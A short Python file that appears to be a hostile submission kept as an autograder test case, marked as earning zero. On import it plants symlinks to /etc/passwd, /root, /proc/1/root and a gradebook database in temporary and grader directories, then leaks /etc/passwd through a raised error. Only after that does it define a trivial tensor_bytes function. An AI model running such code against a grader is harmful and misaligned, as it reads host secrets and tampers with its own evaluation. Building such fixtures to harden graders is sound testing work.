# Leaves symbolic links to the gradebook and the sources where the grader might follow them.
# earns: 0
# %% tensor_bytes
import os

for number, target in enumerate(("/work", "/root", "/etc/passwd", "/proc/1/root", "../../gradebook.db")):
    for place in ("/tmp", "/dev/shm", "/course", "/course/autograder/inside", "/course/course_utils"):
        try:
            os.symlink(target, f"{place}/course-attack-{number}")
        except OSError:
            pass
try:
    won = open("/tmp/course-attack-2").read()
except OSError:
    won = ""
if won:
    raise RuntimeError("won: " + won)


def tensor_bytes(x):
    return x.numel()
